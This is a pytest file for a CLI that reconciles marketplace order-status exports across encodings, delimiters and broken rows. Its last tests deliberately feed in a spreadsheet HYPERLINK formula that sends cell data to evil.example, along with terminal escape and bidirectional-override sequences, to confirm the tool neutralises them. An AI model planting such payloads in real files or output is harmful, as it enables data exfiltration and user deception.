"""`opskb status reconcile` on exports as people really have them, and two-field statuses.

Every fixture is written here byte for byte in the shape its source produces (a spreadsheet
on a Russian desktop, an order system, a marketplace cabinet), and read through the CLI
against the repository's real mappings.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from conftest import REPO

RU_HEADER = "Номер заказа;Маркетплейс;Статус на маркетплейсе;Наш статус"


def _write(tmp_path: Path, data: bytes, name: str = "orders.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def _reconcile(cli, *args: object, fmt: str = "json"):
    result = cli("status", "reconcile", *args, "--root", REPO, "--format", fmt)
    assert "Traceback" not in result.err
    return result


def _records(result) -> tuple[list[dict], dict]:
    records = [json.loads(line) for line in result.out.splitlines()]
    return records[:-1], records[-1]["summary"]


def _spreadsheet(lines: list[str], encoding: str = "cp1251") -> bytes:
    """As a spreadsheet saves 'CSV (semicolon)' on a Russian desktop: cp1251, CRLF."""
    return "".join(line + "\r\n" for line in lines).encode(encoding)


# ---------------------------------------------------------------- Wildberries pairs


@pytest.mark.parametrize(
    ("code", "internal", "why"),
    [
        ("confirm/canceled", "cancelled", "wbStatus canceled is final and decides alone"),
        ("deliver/sold", "delivered", "wbStatus sold is final and decides alone"),
        ("new/canceled", "cancelled", "wbStatus canceled is final and decides alone"),
        ("new/canceled_by_missed_call", "cancelled", "wbStatus canceled_by_missed_call is final"),
        ("complete/sold", "delivered", None),  # control: listed as it is
        ("confirm/waiting", "assembling", "the pair is not listed, its supplierStatus decides"),  # control
        ("cancel_carrier", "cancelled", None),  # a supplierStatus (public client code)
    ],
)
def test_wildberries_pairs_resolve_by_the_declared_precedence(cli, code: str, internal: str, why: str | None) -> None:
    result = cli("status", "wildberries", code, "--root", REPO, "--format", "json")
    assert result.code == 0, result.err
    found = json.loads(result.out)
    assert found["maps_to"] == internal
    if why is None:
        assert found["resolved_by"] == "listed" and found["why"] is None
    else:
        assert why in found["why"]
    text = cli("status", "wildberries", code, "--root", REPO).out
    assert f"-> {internal} " in text.splitlines()[0]


def test_cancel_carrier_is_no_longer_a_wbstatus(cli) -> None:
    result = cli("status", "wildberries", "complete/cancel_carrier", "--root", REPO, "--format", "json")
    assert json.loads(result.out)["maps_to"] == "handed-to-delivery"  # an unlisted wbStatus: supplierStatus decides


def test_reconcile_two_status_columns_applies_the_precedence(cli, tmp_path: Path) -> None:
    rows = [
        "order_id,marketplace,supplierStatus,wbStatus,internal_status",
        "W-1,wildberries,confirm,canceled,cancelled",  # ok: canceled decides
        "W-2,wildberries,deliver,sold,delivered",  # ok: sold decides
        "W-3,wildberries,new,canceled,new",  # mismatch: the old answer
        "W-4,wildberries,complete,sold,delivered",  # ok
        "W-5,wildberries,confirm,waiting,assembling",  # ok: supplierStatus decides
        "W-6,wildberries,confirm,,assembling",  # ok: no wbStatus yet
    ]
    result = _reconcile(cli, _write(tmp_path, "\n".join(rows).encode() + b"\n"))
    findings, summary = _records(result)
    assert [(f["line"], f["kind"], f["expected"]) for f in findings] == [(4, "mismatch", "cancelled")]
    assert findings[0]["marketplace_status"] == "new/canceled"
    assert (summary["rows"], summary["ok"], summary["mismatches"]) == (6, 5, 1)
    pairs = {(p["marketplace_status"], p["ours"]): p["count"] for p in summary["pairs"]}
    assert pairs[("*/canceled", "cancelled")] == 1 and pairs[("*/canceled", "new")] == 1
    assert pairs[("confirm/*", "assembling")] == 1


# ---------------------------------------------------------------- export shapes


def test_cp1251_semicolon_crlf_russian_header(cli, tmp_path: Path) -> None:
    data = _spreadsheet(
        [
            RU_HEADER,
            "1001;Озон;awaiting_packaging;Подтверждён",  # ok
            "1002;Ozon;Ожидает отгрузки;В доставке",  # mismatch: a label, ours as a Russian name
            "1003;Яндекс Маркет;DELIVERED;Получен",  # ok
            "1004;Yandex Market;PROCESSING/READY_TO_SHIP;assembled",  # ok
            "1005;Вайлдберриз;confirm/canceled;Отменён",  # ok: a final wbStatus decides
        ]
    )
    result = _reconcile(cli, _write(tmp_path, data))
    findings, summary = _records(result)
    assert result.code == 1
    assert [(f["line"], f["kind"]) for f in findings] == [(3, "mismatch")]
    assert findings[0]["expected"] == "assembled" and findings[0]["internal_status"] == "in-delivery"
    assert (summary["rows"], summary["ok"], summary["bad_rows"]) == (5, 4, 0)
    (read,) = summary["files"]
    assert read["encoding"] == "cp1251" and read["delimiter"] == ";" and read["header_line"] == 1
    assert read["columns"]["marketplace_status"] == "Статус на маркетплейсе"


@pytest.mark.parametrize(
    ("lines", "options"),
    [
        ([RU_HEADER, "1;Озон;Доставлен;Получен"], []),
        (["Заказ;Статус", "1;Отменён"], ["--marketplace", "ozon", "--column", "internal_status=Статус"]),
        (["1;ozon;delivered;Получен"], []),
    ],
)
def test_short_cp1251_files_are_not_read_as_another_code_page(
    cli, tmp_path: Path, lines: list[str], options: list[str]
) -> None:
    """Left free, charset-normalizer reads these as cp1250, Big5 or Shift JIS."""
    if options:  # one status column that is both: the marketplace's label and our name
        lines = ["Заказ;Статус на маркетплейсе;Статус", "1;Отменён;Отменён"]
    result = _reconcile(cli, _write(tmp_path, _spreadsheet(lines)), *options)
    findings, summary = _records(result)
    assert summary["files"][0]["encoding"] == "cp1251"
    assert findings == [] and summary["ok"] == 1, result.out


def test_koi8r_export_is_read(cli, tmp_path: Path) -> None:
    data = _spreadsheet([RU_HEADER, "1;Озон;Доставлен;Получен", "2;Озон;Отменён;Отменён"], "koi8_r")
    findings, summary = _records(_reconcile(cli, _write(tmp_path, data)))
    assert summary["files"][0]["encoding"] == "KOI8-R" and summary["ok"] == 2 and findings == []


def test_utf8_bom_russian_header_is_not_a_bad_row(cli, tmp_path: Path) -> None:
    data = "\ufeff" + RU_HEADER + "\r\n1;Озон;delivered;delivered\r\n2;Озон;cancelled;new\r\n"
    findings, summary = _records(_reconcile(cli, _write(tmp_path, data.encode())))
    assert [(f["line"], f["kind"]) for f in findings] == [(3, "mismatch")]
    assert summary["bad_rows"] == 0 and summary["files"][0]["encoding"] == "UTF-8 with BOM"


def test_utf8_english_header_comma(cli, tmp_path: Path) -> None:
    data = (
        "order_id,marketplace,marketplace_status,internal_status\n"
        "A-1,ozon,delivered,delivered\nA-2,OZON,delivering,new\n"
    )
    findings, summary = _records(_reconcile(cli, _write(tmp_path, data.encode())))
    assert [(f["line"], f["kind"]) for f in findings] == [(3, "mismatch")]
    assert summary["files"][0]["delimiter"] == "," and summary["files"][0]["encoding"] == "UTF-8"


def test_tab_delimited_with_quoted_cells(cli, tmp_path: Path) -> None:
    data = (
        'Order ID\tMarketplace\tStatus\tOur status\n"A-1"\t"Ozon"\t"delivered"\t"delivered"\n'
        "A-2\tOzon\tdelivered\tnew\n"
    )
    findings, summary = _records(_reconcile(cli, _write(tmp_path, data.encode())))
    assert summary["files"][0]["delimiter"] == "\t"
    assert [(f["line"], f["kind"]) for f in findings] == [(3, "mismatch")] and summary["ok"] == 1


def test_columns_in_another_order_with_extra_columns(cli, tmp_path: Path) -> None:
    data = _spreadsheet(
        [
            "Дата;Наш статус;Сумма, руб.;Статус на маркетплейсе;Склад;Номер заказа;Маркетплейс",
            '01.11.2026;Получен;"1 234,50";delivered;Москва;77-1;Ozon',
            "01.11.2026;accepted;99,00;awaiting_packaging;Казань;77-2;Озон",
            "02.11.2026;new;10,00;awaiting_packaging;Казань;77-3;Озон",
        ]
    )
    findings, summary = _records(_reconcile(cli, _write(tmp_path, data)))
    assert [(f["line"], f["order_id"], f["expected"]) for f in findings] == [(4, "77-3", "accepted")]
    assert summary["ok"] == 2 and summary["bad_rows"] == 0


def test_label_only_statuses_and_an_ambiguous_label(cli, tmp_path: Path) -> None:
    data = _spreadsheet(
        [
            RU_HEADER,
            "1;Озон;Ожидает сборки;Подтверждён",  # ok
            "2;Озон;ожидает  СБОРКИ;В сборке",  # mismatch: case and spaces aside it is the label
            "3;Wildberries;В доставке;В доставке",  # two statuses carry this label and map apart
            "4;Wildberries;Отменён покупателем;Отменён",  # two statuses carry it, both cancelled: ok
            "5;Озон;Телепортирован;Отменён",  # no such status or label
        ]
    )
    findings, summary = _records(_reconcile(cli, _write(tmp_path, data)))
    by_line = {f["line"]: f for f in findings}
    assert by_line[3]["kind"] == "mismatch" and by_line[3]["expected"] == "accepted"
    assert by_line[4]["kind"] == "bad_row" and "ambiguous" in by_line[4]["message"]
    assert "complete -> handed-to-delivery" in by_line[4]["message"]
    assert by_line[6]["kind"] == "bad_row" and "not in the ozon mapping" in by_line[6]["message"]
    assert 5 not in by_line and summary["ok"] == 2


@pytest.mark.parametrize(
    "name", ["Ozon", "Озон", "OZON", "ozon", "Яндекс Маркет", "Yandex Market", "яндекс.маркет", "ЯНДЕКС МАРКЕТ"]
)
def test_marketplace_display_names(cli, tmp_path: Path, name: str) -> None:
    status = "DELIVERED" if "ндекс" in name.lower() or "yandex" in name.lower() else "delivered"
    data = f"{RU_HEADER}\r\n1;{name};{status};delivered\r\n".encode("cp1251")
    findings, summary = _records(_reconcile(cli, _write(tmp_path, data)))
    assert findings == [] and summary["ok"] == 1


def test_unknown_marketplace_name_is_a_bad_row(cli, tmp_path: Path) -> None:
    data = f"{RU_HEADER}\r\n1;Марсмаркет;delivered;delivered\r\n".encode("cp1251")
    findings, _ = _records(_reconcile(cli, _write(tmp_path, data)))
    assert findings[0]["message"] == "unknown marketplace 'Марсмаркет'"


# ---------------------------------------------------------------- broken rows: read to the end


def test_unterminated_quote_hides_nothing(cli, tmp_path: Path) -> None:
    lines = ["order_id,marketplace,marketplace_status,internal_status", 'A-0,ozon,"delivered,delivered']
    lines += [f"A-{n},ozon,awaiting_deliver,new" for n in range(1, 1001)]
    result = _reconcile(cli, _write(tmp_path, ("\n".join(lines) + "\n").encode()))
    findings, summary = _records(result)
    assert findings[0]["line"] == 2 and findings[0]["kind"] == "bad_row"
    assert "unterminated quote" in findings[0]["message"]
    assert [f["line"] for f in findings[1:]] == list(range(3, 1003))
    assert {f["kind"] for f in findings[1:]} == {"mismatch"}
    assert (summary["rows"], summary["mismatches"], summary["bad_rows"]) == (1001, 1000, 1)


def test_unterminated_quote_before_a_quoted_row(cli, tmp_path: Path) -> None:
    data = (
        "order_id;marketplace;marketplace_status;internal_status\n"
        '"A-1;ozon;delivered;delivered\n'  # never closes
        '"A-2";"ozon";"awaiting_deliver";"new"\n'  # its quotes must not close line 2's
        '"A-3\nsecond line";ozon;delivered;delivered\n'  # a cell with a line break: one row
        "A-4;ozon;cancelled;new\n"
    )
    findings, summary = _records(_reconcile(cli, _write(tmp_path, data.encode())))
    assert [(f["line"], f["kind"]) for f in findings] == [(2, "bad_row"), (3, "mismatch"), (6, "mismatch")]
    assert summary["ok"] == 1


def test_every_kind_of_broken_row_is_reported_and_the_rest_checked(cli, tmp_path: Path) -> None:
    long_field = "x" * 20_000
    data = (
        _spreadsheet([RU_HEADER, "1;Озон;delivered;delivered"])  # 2 ok
        + b"2;\xce\xe7\xee\xed;delivered;delivered\x98\r\n"  # 3: 0x98 is no character in cp1251
        + b"3;ozon;deliv\x00ered;delivered\r\n"  # 4: NUL byte
        + b"4;ozon;delivered\r\n"  # 5: a column short
        + b"5;ozon;delivered;delivered;extra\r\n"  # 6: a column more
        + f"6;ozon;{long_field};delivered\r\n".encode()  # 7: overlong field
        + b"7;ozon;"
        + b"y" * (2 * 1024 * 1024)
        + b";delivered\r\n"  # 8: a 2 MiB line
        + _spreadsheet(["8;Озон;cancelled;new"])  # 9 mismatch
    )
    findings, summary = _records(_reconcile(cli, _write(tmp_path, data)))
    got = {f["line"]: f["message"] for f in findings}
    assert got[3] == "bytes not valid in cp1251 at byte 27"
    assert got[4] == "NUL byte at column 13"
    assert got[5] == "expected 4 columns, got 3"
    assert got[6] == "expected 4 columns, got 5"
    assert got[7] == "column 3 is longer than 10000 characters"
    assert got[8] == "line longer than 1 MiB"
    assert got[9].startswith("order 8: ozon cancelled")
    assert (summary["ok"], summary["mismatches"], summary["bad_rows"]) == (1, 1, 6)


def test_utf16_is_refused_with_a_way_out(cli, tmp_path: Path) -> None:
    data = ("order_id\tmarketplace\n").encode("utf-16")
    result = _reconcile(cli, _write(tmp_path, data), fmt="text")
    assert result.code == 2 and "UTF-16" in result.err and "save it as CSV" in result.err


def test_unusual_header_needs_a_column_name(cli, tmp_path: Path) -> None:
    data = "Код;Канал;Состояние у площадки;Наш статус\r\n1;Ozon;delivered;new\r\n".encode("cp1251")
    path = _write(tmp_path, data)
    refused = _reconcile(cli, path, fmt="text")
    assert refused.code == 2 and "no column for order_id, marketplace_status" in refused.err
    assert "--column ROLE=NAME" in refused.err
    result = _reconcile(cli, path, "--column", "order_id=код", "--column", "marketplace_status=Состояние у площадки")
    findings, _ = _records(result)
    assert [(f["order_id"], f["expected"]) for f in findings] == [("1", "delivered")]
    bad = _reconcile(cli, path, "--column", "status=x", fmt="text")
    assert bad.code == 2 and "expected ROLE=NAME" in bad.err


def test_encoding_and_delimiter_can_be_given(cli, tmp_path: Path) -> None:
    """When the data cannot say (a one-column-looking file, a code page guessed wrong)."""
    data = "Номер заказа|Маркетплейс|Статус на маркетплейсе|Наш статус\n1|Озон|Отменён|Отменён\n".encode("koi8_r")
    path = _write(tmp_path, data)
    findings, summary = _records(_reconcile(cli, path, "--encoding", "KOI8-R", "--delimiter", "|"))
    assert findings == [] and summary["ok"] == 1
    assert summary["files"][0]["encoding"] == "KOI8-R" and summary["files"][0]["delimiter"] == "|"
    wrong = _reconcile(cli, path, "--encoding", "klingon", fmt="text")
    assert wrong.code == 2 and "no such encoding" in wrong.err


# ---------------------------------------------------------------- two files


def _pair(tmp_path: Path) -> tuple[Path, Path]:
    market = _write(
        tmp_path,
        _spreadsheet(
            [
                "Номер отправления;Статус;Подстатус;Дата",
                "P-1;awaiting_packaging;;01.11",  # ours accepted: ok
                "P-2;delivering;posting_in_pickup_point;01.11",  # ready-for-pickup; ours in-delivery
                "P-3;delivered;posting_received;01.11",  # ok (status decides)
                "P-4;cancelled;;01.11",  # not in ours
                "P-2;delivering;posting_in_pickup_point;01.11",  # a second item of P-2
            ]
        ),
        "ozon.csv",
    )
    ours = _write(
        tmp_path,
        (
            "order_id,channel,status\n"
            "P-1,Ozon,accepted\n"
            "P-2,Ozon,in-delivery\n"
            "P-3,Озон,Получен\n"
            "P-5,Ozon,assembling\n"  # not in the marketplace's export
            "W-1,Wildberries,assembling\n"  # another marketplace: not compared
        ).encode(),
        "ours.csv",
    )
    return market, ours


def test_two_files_joined_by_order_id(cli, tmp_path: Path) -> None:
    market, ours = _pair(tmp_path)
    result = _reconcile(cli, "--marketplace", "Ozon", market, "--ours", ours)
    assert result.code == 1
    findings, summary = _records(result)
    kinds = [(f["kind"], f["order_id"], f["line"]) for f in findings]
    assert kinds == [
        ("mismatch", "P-2", 3),
        ("only_in_marketplace", "P-4", 5),
        ("mismatch", "P-2", 6),
        ("only_in_ours", "P-5", 5),
    ]
    mismatch = findings[0]
    assert mismatch["expected"] == "ready-for-pickup" and mismatch["internal_status"] == "in-delivery"
    assert mismatch["ours_file"] == str(ours) and mismatch["ours_line"] == 3
    assert findings[3]["file"] == str(ours)
    assert summary["only_in_marketplace"] == 1 and summary["only_in_ours"] == 1
    assert summary["skipped_other_marketplaces"] == 1
    pairs = {(p["marketplace_status"], p["ours"]): (p["count"], p["ok"]) for p in summary["pairs"]}
    assert pairs[("delivering/posting_in_pickup_point", "in-delivery")] == (2, False)
    assert pairs[("delivered/*", "delivered")] == (1, True)
    text = _reconcile(cli, "--marketplace", "ozon", market, "--ours", ours, fmt="text").out
    assert f"{market}:3: mismatch: order P-2: ozon delivering/posting_in_pickup_point" in text
    assert f"[ours: {ours}:3]" in text
    assert "1 only in the ozon export, 1 only in ours" in text
    assert (
        "2 x ozon delivering/posting_in_pickup_point -> ours in-delivery  (MISMATCH: maps to ready-for-pickup)" in text
    )


def test_two_files_clean_exit_0(cli, tmp_path: Path) -> None:
    market = _write(tmp_path, b"id;status\n1;delivered\n2;cancelled\n", "m.csv")
    ours = _write(tmp_path, b"order;our status\n2;cancelled\n1;delivered\n", "o.csv")
    result = _reconcile(cli, "--marketplace", "ozon", market, "--ours", ours, fmt="text")
    assert result.code == 0, result.out


def test_our_file_listing_an_order_twice_with_two_statuses(cli, tmp_path: Path) -> None:
    market = _write(tmp_path, b"id;status\n1;delivered\n", "m.csv")
    ours = _write(tmp_path, b"order;our status\n1;delivered\n1;cancelled\n", "o.csv")
    findings, _ = _records(_reconcile(cli, "--marketplace", "ozon", market, "--ours", ours))
    assert findings[0]["file"] == str(ours) and findings[0]["line"] == 3
    assert "same order id as line 2" in findings[0]["message"]


def test_two_file_usage_errors(cli, tmp_path: Path) -> None:
    market, ours = _pair(tmp_path)
    assert "--ours needs --marketplace" in _reconcile(cli, market, "--ours", ours, fmt="text").err
    result = _reconcile(cli, "--marketplace", "ozn", market, "--ours", ours, fmt="text")
    assert result.code == 2 and "did you mean ozon" in result.err
    assert "no such file" in _reconcile(cli, "--marketplace", "ozon", market, "--ours", tmp_path / "x", fmt="text").err


# ---------------------------------------------------------------- CSV output


def test_csv_output_is_inert_in_a_spreadsheet(cli, tmp_path: Path) -> None:
    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = [
        "order_id,marketplace,marketplace_status,internal_status",
        f'"{payload.replace(chr(34), chr(34) * 2)}",ozon,delivered,new',
        "+1-555,ozon,delivered,new",
        "@SUM(1),ozon,delivered,new",
        "-2,ozon,delivered,new",
    ]
    result = _reconcile(cli, _write(tmp_path, ("\n".join(rows) + "\n").encode()), fmt="csv")
    assert result.code == 1
    table = list(csv.reader(io.StringIO(result.out)))
    assert table[0][:4] == ["kind", "file", "line", "order_id"]
    ids = [row[3] for row in table[1:] if row[0] == "mismatch"]
    assert ids == ["'" + payload, "'+1-555", "'@SUM(1)", "'-2"]
    assert all(line.startswith('"') for line in result.out.splitlines())  # every cell quoted
    summary = {row[-1]: row[-2] for row in table if row[0] == "summary"}
    assert summary["mismatches"] == "4"
    pair = next(row for row in table if row[0] == "pair")
    assert pair[5] == "delivered" and pair[6] == "delivered" and pair[7] == "new" and pair[-1] == "mismatch"


# ---------------------------------------------------------------- what reaches a terminal

HOSTILE_CELLS = (
    "\x1b]8;;https://evil.example/\x1b\\A-1\x1b]8;;\x1b\\",  # OSC 8: a hidden hyperlink
    "\x1b[2J\x1b[HA-2",  # CSI: clear the screen, cursor home
    "\x1b]0;pwned\x07A-3",  # OSC 0: the window's title
    "A-4\rA-5 fake line",  # carriage return: overwrite the line
    "\x9b31mA-6",  # 8-bit CSI
    "A-7\u202etxt.exe",  # a bidirectional override
    "\x1bP+q\x1b\\A-8",  # DCS
)


def test_text_output_carries_no_terminal_control_sequences_from_the_file(cli, tmp_path: Path) -> None:
    """Order ids and statuses are echoed (mismatches, unknown statuses): what a cell holds
    is shown, never obeyed, whether it is an order id or a status."""
    rows = [f"{cell},ozon,delivering,new" for cell in HOSTILE_CELLS]
    rows += ["A-9,ozon,\x1b[31mdelivering\x1b[0m,new", "A-10,\x1b]0;x\x07ozon,delivering,new"]
    data = "order_id,marketplace,marketplace_status,internal_status\n" + "\n".join(rows) + "\n"
    result = _reconcile(cli, _write(tmp_path, data.encode()), fmt="text")
    assert result.code == 1, result.err
    shown = result.out + result.err
    for forbidden in ("\x1b", "\x9b", "\x07", "\r", "\u202e", "\x9c"):
        assert forbidden not in shown, (forbidden, shown)
    for order in ("A-1", "A-2", "A-3", "A-5 fake line", "A-6", "A-7txt.exe", "A-8"):
        assert order in shown, (order, shown)
    assert "pwned" not in shown and "evil.example" not in shown


@pytest.mark.parametrize("encoding", ["utf-8", "cp1251"])
def test_lines_ending_in_cr_alone_are_read(cli, tmp_path: Path, encoding: str) -> None:
    """Classic Mac OS line endings (and exporters that copied them): CR alone ends a line;
    before, the whole file was one line and its header 'had no column' for the rest."""
    lines = [RU_HEADER, "1001;Ozon;delivered;delivered", "1002;Ozon;delivering;new", '1003;Ozon;"delivered";delivered']
    data = "\r".join(lines).encode(encoding) + b"\r"
    result = _reconcile(cli, _write(tmp_path, data))
    assert result.code == 1, result.err
    findings, summary = _records(result)
    assert [(f["line"], f["kind"]) for f in findings] == [(3, "mismatch")], findings
    assert summary["rows"] == 3 and summary["bad_rows"] == 0
